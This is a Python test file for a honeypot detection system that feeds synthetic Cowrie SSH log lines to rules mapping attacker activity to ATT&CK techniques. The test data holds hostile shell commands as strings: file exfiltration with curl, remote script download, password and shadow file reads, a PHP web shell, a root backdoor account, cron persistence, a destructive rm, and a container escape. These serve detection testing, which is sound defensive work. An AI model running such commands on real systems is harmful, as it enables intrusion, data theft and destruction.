"""Rules from lines of Cowrie's log to stored tags."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from itertools import count
from typing import TYPE_CHECKING

import pytest
import yaml

from decnet.models.actor import attacker_uuid
from decnet.models.finding import DAY_US
from decnet.models.ids import uuid_text
from decnet.ttp.store.filesystem import default_rules_folder
from tests.sources.cowrie_lines import line

if TYPE_CHECKING:
    from tests.e2e.rules.served import Served

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(120)]
START = datetime(2026, 11, 18, 12, tzinfo=UTC)
LOG = "cowrie.json"
_numbers = count(1)


class Visitor:
    """An attacker at a decoy of its own; every session has an id of its own."""

    def __init__(self, source: str, served: Served) -> None:
        self.source = source
        self.sensor = f"decoy-{source}"
        self._served = served

    def line(self, eventid: str, at: float = 0, *, session: int = 0, **fields: object) -> bytes:
        """One record, so many seconds after the start."""
        stamp = (START + timedelta(seconds=at)).isoformat(timespec="microseconds")
        native = f"{int(self.source.rpartition('.')[2]):04x}{session:08x}"
        own = {"src_ip": self.source, "sensor": self.sensor, "timestamp": stamp, "session": native}
        return line(f"cowrie.{eventid}", **own, **fields)

    def does(self, *lines: bytes) -> None:
        """Cowrie writes these lines."""
        self._served.log(LOG, lines)

    def logs_in(self, at: float, password: str, *, user: str = "root", session: int = 0, works: bool = False) -> bytes:
        """An attempt."""
        outcome = "success" if works else "failed"
        return self.line(f"login.{outcome}", at, session=session, username=user, password=password)

    @property
    def uuid(self) -> str:
        return uuid_text(attacker_uuid(self.source))


@pytest.fixture
def visitor(served: Served) -> Visitor:
    return Visitor(f"198.51.100.{next(_numbers)}", served)


@pytest.mark.rule("R0001", "R0002")
def test_failed_logins_with_many_passwords_are_brute_force_and_guessing(visitor: Visitor, served: Served) -> None:
    visitor.does(*(visitor.logs_in(number, f"guess-{number}") for number in range(6)))
    (brute,) = served.tags("R0001", visitor.source)
    (guessing,) = served.tags("R0002", visitor.source)
    assert brute.shown == ("TA0006", "T1110", 0.85)
    assert guessing.shown == ("TA0006", "T1110.001", 0.85)
    assert brute.evidence == {"finding": brute.source_id, "window_seconds": 300, "threshold": {"gte": 5}}
    assert brute.source_id.startswith(f"auth:{visitor.uuid}:{visitor.sensor}:ssh:")


@pytest.mark.rule("R0001")
def test_a_brute_force_of_a_thousand_failures_is_one_tag_per_bucket(visitor: Visitor, served: Served) -> None:
    for part in range(10):
        visitor.does(*(visitor.logs_in(part * 60 + second * 0.6, "x", session=part) for second in range(100)))
    served.settle()
    tags = served.tags("R0001", visitor.source)
    assert [tag.observed_at % 300_000_000 for tag in tags] == [0, 0]
    assert len({tag.source_id for tag in tags}) == 2


@pytest.mark.rule("R0005")
def test_a_login_after_failures_that_is_used_is_a_valid_account(visitor: Visitor, served: Served) -> None:
    attempts = [visitor.logs_in(1, "a"), visitor.logs_in(2, "b"), visitor.logs_in(3, "c", works=True)]
    visitor.does(*attempts, visitor.line("command.input", 5, input="ls"))
    (tag,) = served.tags("R0005", visitor.source)
    assert tag.shown == ("TA0001", "T1078", 0.7)
    assert (tag.source_kind, tag.source_id[:6]) == ("auth_attempt", "login:")
    assert tag.evidence["threshold"] == {"failures_gte": 1}


@pytest.mark.rule("R0006")
def test_a_pair_that_a_vendor_delivered_is_told_from_others(visitor: Visitor, served: Served) -> None:
    visitor.does(visitor.logs_in(1, "blueberry", user="pi"), visitor.logs_in(2, "raspberry", user="pi"))
    served.settle()
    (tag,) = served.tags("R0006", visitor.source)
    assert tag.shown == ("TA0001", "T1078.001", 0.9)
    assert tag.evidence["table"] == "data/default_credentials.yaml"
    assert "Raspberry Pi" in tag.evidence["entry"]
    assert "raspberry" not in str(tag.evidence)


@pytest.mark.rule("R0031")
def test_contacts_at_even_intervals_are_beaconing(visitor: Visitor, served: Served) -> None:
    visitor.does(*(visitor.line("session.connect", number * 45, session=number) for number in range(6)))
    tags = served.tags("R0031", visitor.source, count=2)
    assert [tag.shown for tag in tags] == [("TA0010", "T1029", 0.75), ("TA0011", "T1071", 0.8)]
    assert tags[0].evidence["threshold"] == {"events_gte": 4, "interval_seconds_gte": 10.0, "variation_lte": 0.15}


@pytest.mark.rule("R0034")
def test_many_requests_through_a_tunnel_are_exfiltration(visitor: Visitor, served: Served) -> None:
    visitor.does(
        *(visitor.line("direct-tcpip.request", number, dst_ip="203.0.113.9", dst_port=443) for number in range(55))
    )
    (tag,) = served.tags("R0034", visitor.source)
    assert tag.shown == ("TA0010", "T1567", 0.85)
    assert tag.evidence == {"finding": tag.source_id, "measure": "requests_out", "threshold": {"gte": 50}}


@pytest.mark.rule("R0034")
def test_a_file_that_a_client_sends_is_exfiltration(visitor: Visitor, served: Served) -> None:
    visitor.does(visitor.line("command.input", 1, input="curl -T /etc/hosts http://203.0.113.9/"))
    shown = {tag.technique: tag.confidence for tag in served.tags("R0034", visitor.source, count=3)}
    assert shown == {"T1567": 0.85, "T1041": 0.65, "T1048.003": 0.85}


@pytest.mark.rule("R0059")
def test_a_link_local_address_behind_a_routed_source_is_a_proxy(visitor: Visitor, served: Served) -> None:
    visitor.does(visitor.line("client.var", 1, name="SSH_CONNECTION", value="fe80::1%eth0 51234 fe80::2%eth0 22"))
    (tag,) = served.tags("R0059", visitor.source)
    assert tag.shown == ("TA0011", "T1090", 0.85)
    assert tag.evidence == {"sign": "fe80::/10"}


@pytest.mark.rule("R0063")
def test_a_script_that_is_uploaded_is_tool_transfer(visitor: Visitor, served: Served) -> None:
    visitor.does(visitor.line("session.file_upload", 1, filename="bins.sh", outfile="x", shasum="a" * 64))
    (tag,) = served.tags("R0063", visitor.source)
    assert tag.shown == ("TA0011", "T1105", 0.9)
    assert "match.any[0].all[1].any[1].pattern" in tag.evidence["terms"]


@pytest.mark.rule("R0066")
def test_even_failures_at_one_service_have_the_rhythm_of_a_guesser(visitor: Visitor, served: Served) -> None:
    visitor.does(*(visitor.logs_in(number, "same") for number in range(10)))
    (tag,) = served.tags("R0066", visitor.source)
    assert tag.shown == ("TA0006", "T1110", 0.95)
    assert tag.observed_at % DAY_US == 0
    assert tag.evidence == {
        "finding": tag.source_id,
        "window_seconds": 86_400,
        "behaviour": "brute_force",
        "threshold": {"failures_gte": 1},
    }


@pytest.mark.rule("R0066")
def test_even_connections_without_a_login_are_no_guessing(visitor: Visitor, served: Served) -> None:
    visitor.does(*(visitor.line("session.connect", number, session=number) for number in range(12)))
    served.settle()
    assert not [tag for tag in served.tags_now("R0066") if tag.attacker == visitor.uuid]


@pytest.mark.rule("R0068")
def test_a_guesser_that_names_itself_is_known_by_its_banner(visitor: Visitor, served: Served) -> None:
    visitor.does(visitor.line("client.version", 1, version="SSH-2.0-MEDUSA_1.0"))
    tags = served.tags("R0068", visitor.source, count=2)
    assert {tag.shown for tag in tags} == {("TA0006", "T1110.001", 0.95)}
    assert {tag.source_kind for tag in tags} == {"fingerprint", "session"}
    (guess,) = [tag for tag in tags if tag.source_kind == "session"]
    assert (guess.evidence["tool"], guess.evidence["basis"]) == ("medusa", ["banner"])


@pytest.mark.rule("R0069")
def test_a_scanner_that_names_itself_is_known_by_its_banner(visitor: Visitor, served: Served) -> None:
    visitor.does(visitor.line("client.version", 1, version="SSH-2.0-ZGrab ZGrab SSH Survey"))
    tags = served.tags("R0069", visitor.source, count=4)
    assert {tag.shown for tag in tags} == {("TA0007", "T1046", 0.9), ("TA0043", "T1595.002", 0.9)}
    assert {tag.source_kind for tag in tags} == {"fingerprint", "session"}


@pytest.mark.rule("R0071")
def test_a_listed_fingerprint_is_offensive_tooling(visitor: Visitor, served: Served) -> None:
    visitor.does(
        visitor.line(
            "client.kex", 1, hassh="fafc45381bfde997b6305c4e1600f1bf", hasshAlgorithms="a;b;c;d", kexAlgs=["a"]
        )
    )
    (tag,) = served.tags("R0071", visitor.source)
    assert tag.shown == ("TA0042", "T1588.002", 0.85)
    assert tag.evidence == {
        "table": "data/client_fingerprints.yaml",
        "entry": "ruby_net_ssh_5.0.2",
        "metric": "hassh",
    }


TYPED = {
    "R0010": "/bin/busybox sh",
    "R0011": "python3 -c 'print(1+1)'",
    "R0012": "cd /tmp && wget http://203.0.113.7/bins.sh",
    "R0013": "cat /etc/passwd",
    "R0014": "cat /etc/shadow",
    "R0015": "find / -perm -u=s -type f 2>/dev/null",
    "R0016": "find / -name '*.conf' 2>/dev/null",
    "R0017": "nmap -sS -p22,23,80 192.0.2.0/24",
    "R0018": "uname -a",
    "R0019": "whoami",
    "R0020": "/sbin/ifconfig -a",
    "R0021": "netstat -antp",
    "R0022": "ldapsearch -x -H ldap://192.0.2.20 -b dc=example,dc=org '(objectClass=user)' sAMAccountName",
    "R0023": "smbclient -N -L //192.0.2.30",
    "R0024": "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support",
    "R0025": "(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -",
    "R0027": "echo '<?php system($_GET[0]); ?>' > /var/www/html/x.php",
    "R0028": "history -c",
    "R0029": "sudo su -",
    "R0032": "rm -rf / --no-preserve-root",
    "R0033": "echo 'All your files have been encrypted. Send 0.05 BTC to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT' > /x",
    "R0036": "cat /var/www/html/.env",
    "R0037": "kubectl get secrets --all-namespaces -o yaml",
    "R0038": "docker run --rm -it -v /:/mnt alpine chroot /mnt sh",
}


@pytest.mark.parametrize(
    "rule_id", [pytest.param(rule_id, marks=pytest.mark.rule(rule_id), id=rule_id) for rule_id in TYPED]
)
def test_a_typed_line_shows_what_its_rule_says(rule_id: str, visitor: Visitor, served: Served) -> None:
    text = TYPED[rule_id]
    visitor.does(visitor.line("command.input", 1, input=text))
    tags = served.tags(rule_id, visitor.source)
    emits = yaml.safe_load((default_rules_folder() / "ttp" / f"{rule_id}.yaml").read_text("utf-8"))["emits"]
    said = {(emit["tactic"], emit.get("sub_technique_id", emit["technique_id"]), emit["confidence"]) for emit in emits}
    assert {tag.shown for tag in tags} <= said
    for tag in tags:
        assert tag.source_kind == "command"
        assert tag.evidence["matched"] in text
